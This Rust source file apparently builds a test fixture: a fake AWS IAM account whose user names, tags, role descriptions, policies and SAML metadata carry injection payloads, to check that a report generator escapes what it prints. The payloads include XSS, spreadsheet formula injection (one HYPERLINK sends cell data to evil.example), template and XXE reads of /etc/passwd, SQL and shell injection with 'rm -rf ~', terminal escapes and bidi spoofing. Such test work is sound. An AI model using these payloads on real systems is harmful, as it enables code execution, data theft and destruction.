//! An account whose texts attack whatever prints them.
//!
//! Names, role descriptions and tags stay inside the character sets that IAM
//! enforces; policy descriptions and documents take anything XML can carry.
//! The user and the role called `beyond-the-rules` break IAM's sets on purpose,
//! as a changed rule of IAM's or another vendor's double might.

use super::blueprint::{
    Blueprint, Certificate, Group, Holds, Key, Mfa, Oidc, Password, Policy, Role, Root, Saml, User,
};
use super::documents::{allow, document, trust, with};
use super::report::Style;
use super::rng::id;
use crate::time::{DAY, at};
use serde_json::{Value, json};

const ACCOUNT: &str = "123456789012";

/// Attacks, one a text. XML 1.0 cannot carry ESC, so terminal escapes come as C1 controls here; documents,
/// where JSON escapes anything, have the real ones.
const ATTACKS: &[(&str, &str)] = &[
    ("script", "<script>alert(1)</script>"),
    ("attribute", "\"><img src=x onerror=alert(1)>'onmouseover='alert(1)"),
    ("closing", "</td></tr></table></body></html><!-- -->]]><style>*{display:none}</style>"),
    ("entity", "&lt;b&gt; &amp;amp; &#x3c;i&#62; &nbsp;"),
    ("tera", "{{7*7}} {% raw %} {# x #} {{ get_env(name=\"HOME\") }} {% include \"/etc/passwd\" %}"),
    (
        "typst",
        "#set page(width: 1cm) #read(\"/etc/passwd\") $x$ *bold* _it_ = Heading @ref <label> `raw` \\ #eval(\"1\")",
    ),
    ("formula-cmd", "=cmd|' /C calc'!A0"),
    ("formula-link", "=HYPERLINK(\"https://evil.example/?\"&A1,\"ok\")"),
    ("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula-plus", "+1+1"),
    ("formula-minus", "-1+1"),
    ("formula-tab", "\t=1+1"),
    ("c1-colour", "\u{9b}31mred\u{9b}0m \u{9b}2J\u{9b}H"),
    ("c1-link", "\u{9d}8;;https://evil.example\u{9c}PASS\u{9d}8;;\u{9c}"),
    ("bidi", "PASS\u{202e}LIAF\u{202c} \u{2066}isolated\u{2069} \u{200f}rtl"),
    ("private-use", "logo \u{e000}\u{f8ff}\u{f0000} here"),
    ("zero-width", "ad\u{200b}min\u{200d}istra\u{feff}tor\u{2060} so\u{ad}ft"),
    ("combining", "Z\u{334}\u{33f}\u{348}a\u{335}\u{341}\u{34e}l\u{336}\u{300}\u{31f}g\u{337}o\u{338}"),
    ("emoji", "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇬🇷 𝔣𝔯𝔞𝔨𝔱𝔲𝔯 ﷽"),
    ("scripts", "Ελληνικά Кириллица 漢字かな 한국어 العربية עברית हिन्दी ไทย"),
    ("noncharacter", "\u{fdd0}\u{fdef}\u{1fffe} end"),
    ("path", "../../etc/passwd ..\\..\\windows\\system32 CON NUL COM1 /dev/stdin C:\\boot.ini"),
    ("newlines", "first line\nsecond line\r\nthird\rfourth\u{2028}fifth\u{85}sixth"),
    ("markdown", "[click](javascript:alert(1)) ![x](https://evil.example/x.png) | a | b |\n|---|---|"),
    ("json", "\",\"verdict\":\"pass\",\"x\":\"\\u0000\\"),
    ("toml", "\"\"\"\n[[controls]]\nid = 'x'\n+++"),
    ("sql", "'; DROP TABLE users; --"),
    ("shell", "$(touch /tmp/owned) `id` ; rm -rf ~ && %PATH% ${HOME} !!"),
];

/// What only a document can carry: JSON spells any character as an escape.
const IN_DOCUMENTS: &[&str] = &[
    "\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}",
    "\u{1b}]8;;https://evil.example\u{1b}\\PASS\u{1b}]8;;\u{1b}\\",
    "nul \u{0} bell \u{7} backspace \u{8}\u{8}\u{8} delete \u{7f}",
    "\u{fffe}\u{ffff}",
];

/// Names inside IAM's `[\w+=,.@-]+` that mean something elsewhere.
const NAMES: &[&str] = &[
    "=cmd",
    "@SUM",
    "-1+1",
    "+1",
    "a,b",
    "=1+1",
    "-",
    "--help",
    "-rf",
    "..",
    "...",
    ".hidden",
    "CON",
    "nul.txt",
    "COM1",
    "con.d",
    "__proto__",
    "constructor",
    "null",
    "true",
    "0",
    "1e309",
    "N_A",
    "no_information",
    "root",
    "Root.Account",
    "a=b,c=d",
    "@import",
    "user@evil.example",
];

/// No place to break a line.
fn long(length: usize) -> String {
    "Donaudampfschifffahrtsgesellschaftskapitän".chars().filter(char::is_ascii).cycle().take(length).collect()
}

pub fn blueprint() -> Blueprint {
    let report = super::report_time();
    Blueprint {
        account: ACCOUNT.to_owned(),
        alias: Some("hostile-text".to_owned()),
        // A session's name may hold =,.@- as well.
        caller: (
            format!("arn:aws:sts::{ACCOUNT}:assumed-role/=cmd/@SUM=1+1,x"),
            format!("{}:@SUM=1+1,x", id("AROA", "=cmd")),
        ),
        report_time: report,
        report_style: Style::Live,
        root: Root {
            created: at(2020, 2, 29, 23, 59, 59),
            password: Some(Password { changed: at(2020, 2, 29, 23, 59, 59), used: None }),
            mfa: Vec::new(),
            keys: [None, None],
        },
        users: users(report),
        groups: groups(),
        roles: roles(),
        policies: policies(),
        password_policy: None,
        spare_devices: vec!["=cmd".to_owned(), "../../x".replace('/', "_")],
        certificates: vec![Certificate {
            name: "=HYPERLINK.@,+-".to_owned(),
            path: "/<script>alert(1)</".to_owned() + "script>/",
            uploaded: at(2025, 1, 1, 0, 0, 0),
            expires: at(9999, 12, 31, 23, 59, 59),
        }],
        saml: vec![Saml {
            name: "__proto__".to_owned(),
            created: at(2024, 1, 1, 0, 0, 0),
            valid_until: at(2124, 1, 1, 0, 0, 0),
            metadata: format!(
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>\
                 <EntityDescriptor>&e;]]><!-- {} --></EntityDescriptor>",
                long(1000)
            ),
            tags: legal_tags(),
        }],
        oidc: vec![Oidc {
            url: "evil.example/%3Cscript%3E/..%2f..%2fetc".to_owned(),
            clients: ATTACKS.iter().map(|(_, attack)| (*attack).to_owned()).collect(),
            created: at(2024, 1, 1, 0, 0, 0),
            tags: legal_tags(),
        }],
        v2_tokens: true,
    }
}

/// Tags inside IAM's set of letters, spaces, digits and `_.:/=+-@`.
fn legal_tags() -> Vec<(String, String)> {
    [
        ("=1+1", "@SUM"),
        ("-1", "+1"),
        ("../../etc/passwd", "C:/boot.ini"),
        ("Ομάδα", "Логистика 物流 العربية"),
        ("javascript:alert", "data:text/html"),
        ("__proto__", "constructor"),
        ("leer", ""),
        (" space ", "\u{2003}\u{3000}"),
    ]
    .map(|(key, value)| (key.to_owned(), value.to_owned()))
    .into_iter()
    .chain([(long(128), long(256))])
    .collect()
}

fn lawless_tags() -> Vec<(String, String)> {
    ATTACKS
        .iter()
        .map(|(name, attack)| (format!("{attack} {name}").chars().take(128).collect(), (*attack).to_owned()))
        .collect()
}

/// A document with an attack as Sid, as resource, as condition's key and as its value.
fn attacked(attack: &str) -> Value {
    let one = json!({"Sid": attack, "Effect": "Allow", "Action": "s3:GetObject", "Resource": format!("arn:aws:s3:::{attack}/*")});
    let condition = json!({"StringLike": {format!("aws:PrincipalTag/{attack}"): [attack, "*"]}});
    document(vec![with(one, "Condition", condition)])
}

fn users(report: i64) -> Vec<User> {
    let mut users: Vec<User> = NAMES
        .iter()
        .zip(1..)
        .map(|(name, n)| User {
            name: (*name).to_owned(),
            path: if n % 5 == 0 { "/\"><svg/onload=alert(1)>/" } else { "/" }.to_owned(),
            created: at(2022, 1, 1, 0, 0, 0) + n * DAY,
            password: (n % 2 == 0).then(|| Password { changed: report - n * DAY, used: None }),
            mfa: if n % 3 == 0 {
                vec![Mfa::Virtual { name: (*name).to_owned(), enabled: report - 300 * DAY }]
            } else {
                Vec::new()
            },
            keys: [(n % 4 == 1).then(|| Key { active: true, created: report - 10 * n * DAY, used: None }), None],
            groups: if n % 7 == 0 { vec!["@SUM".to_owned()] } else { Vec::new() },
            holds: Holds { tags: if n % 2 == 1 { legal_tags() } else { Vec::new() }, ..Holds::default() },
            ..User::default()
        })
        .collect();
    users.push(User {
        name: long(64),
        path: format!("/{}/", long(510)),
        created: at(2022, 5, 5, 5, 5, 5),
        ..User::default()
    });
    users.push(User {
        name: "beyond-the-rules".to_owned(),
        path: "/".to_owned(),
        created: at(2022, 6, 6, 6, 6, 6),
        holds: Holds { tags: lawless_tags(), ..Holds::default() },
        ..User::default()
    });
    users
}

fn groups() -> Vec<Group> {
    let group = |name: &str, inline: Vec<(String, Value)>| Group {
        name: name.to_owned(),
        path: "/".to_owned(),
        created: at(2022, 1, 1, 0, 0, 0),
        holds: Holds { inline, ..Holds::default() },
    };
    let inline = IN_DOCUMENTS.iter().zip(1..).map(|(attack, n)| (format!("=inline-{n}"), attacked(attack))).collect();
    vec![group("@SUM", inline), group("=cmd", Vec::new()), group(&long(128), Vec::new())]
}

fn roles() -> Vec<Role> {
    // Role descriptions take Latin-1 only: no C1 controls, nothing above U+00FF.
    let legal = |text: &&(&str, &str)| {
        text.1.chars().all(|letter| matches!(letter, '\t' | '\n' | '\r' | ' '..='~' | '\u{a1}'..='\u{ff}'))
    };
    let role = |name: &str, description: &str, trust: Value| Role {
        name: name.to_owned(),
        path: "/".to_owned(),
        created: at(2022, 1, 1, 0, 0, 0),
        trust,
        description: Some(description.to_owned()),
        ..Role::default()
    };
    let mut roles: Vec<Role> = ATTACKS
        .iter()
        .filter(legal)
        .map(|(name, attack)| {
            let condition = json!({"StringEquals": {"sts:ExternalId": attack}});
            role(
                name,
                attack,
                trust(
                    json!({"AWS": format!("arn:aws:iam::{ACCOUNT}:user/{attack}")}),
                    "sts:AssumeRole",
                    Some(condition),
                ),
            )
        })
        .collect();
    for name in ["=cmd", "@SUM", "-1+1", "a,b", "..", "CON"] {
        roles.push(role(name, "", trust(json!({"Service": "<b>ec2</b>.amazonaws.com"}), "sts:AssumeRole", None)));
    }
    roles.push(role(&long(64), &long(1000), trust(json!({"Federated": long(200)}), "sts:AssumeRoleWithSAML", None)));
    // External ids that stand nowhere else, so that whoever prints one is found out.
    let secrets = json!({"StringEquals": {"sts:ExternalId": ["hx-5d41402abc-<b>one</b>", "hx-7d793037a0-=two"]}});
    roles.push(role("external-ids", "", trust(json!({"AWS": "999988887777"}), "sts:AssumeRole", Some(secrets))));
    let mut lawless = role("beyond-the-rules", ATTACKS[14].1, trust(json!({"AWS": "*"}), "sts:AssumeRole", None));
    lawless.holds.tags = lawless_tags();
    lawless.holds.inline = ATTACKS.iter().map(|(name, attack)| ((*name).to_owned(), attacked(attack))).collect();
    roles.push(lawless);
    roles
}

fn policies() -> Vec<Policy> {
    let policy = |name: &str, description: &str, document: Value| Policy {
        name: name.to_owned(),
        path: "/".to_owned(),
        description: Some(description.to_owned()),
        versions: vec![(at(2022, 1, 1, 0, 0, 0), document)],
        ..Policy::default()
    };
    let mut policies: Vec<Policy> =
        ATTACKS.iter().map(|(name, attack)| policy(name, attack, attacked(attack))).collect();
    for (attack, n) in IN_DOCUMENTS.iter().zip(1..) {
        policies.push(policy(&format!("document-{n}"), "What JSON can spell and XML cannot", attacked(attack)));
    }
    policies.push(policy("=cmd", &long(1000), document(vec![allow(&[&long(60)], &[&long(2000)])])));
    policies.push(policy("@SUM", "", document(vec![allow(&["s3:GetObject"], &["arn:aws:s3:::x/\u{202e}cod.exe"])])));
    policies
}
